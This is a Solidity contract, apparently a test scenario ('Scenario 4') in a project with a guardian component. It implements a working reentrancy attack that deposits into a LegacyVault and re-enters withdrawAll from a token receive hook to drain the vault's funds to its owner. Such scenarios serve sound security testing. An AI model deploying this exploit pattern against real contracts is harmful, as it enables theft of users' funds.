// SPDX-License-Identifier: Apache-2.0
pragma solidity ^0.8.24;

import {HookToken, ITokenReceiverHook} from "../venue/Tokens.sol";
import {LegacyVault} from "../venue/LegacyVault.sol";
import {AttestedCaller} from "../guardian/AttestedEntry.sol";

/// @title ReentrancyAttacker
/// @notice Scenario 4: deposits into LegacyVault, registers a receive hook on the token, and re-enters
/// `withdrawAll` from the hook while the vault still holds at least the deposit, taking it again each time.
contract ReentrancyAttacker is ITokenReceiverHook, AttestedCaller {
    LegacyVault public immutable vault;
    HookToken public immutable token;
    address public immutable owner;
    uint256 private _stake;
    bool private _attacking;

    error NotOwner();

    constructor(LegacyVault vault_, HookToken token_) {
        vault = vault_;
        token = token_;
        owner = msg.sender;
    }

    function attack(uint256 stake) external returns (uint256 taken) {
        if (msg.sender != owner) revert NotOwner();
        token.transferFrom(owner, address(this), stake);
        token.approve(address(vault), stake);
        vault.deposit(stake);
        _stake = stake;
        _attacking = true;
        token.setHook(true);
        vault.withdrawAll();
        token.setHook(false);
        _attacking = false;
        taken = token.balanceOf(address(this));
        token.transfer(owner, taken);
    }

    function onTokenReceived(address from, uint256) external override {
        if (msg.sender != address(token) || from != address(vault) || !_attacking) return;
        if (token.balanceOf(address(vault)) >= _stake) vault.withdrawAll();
    }
}
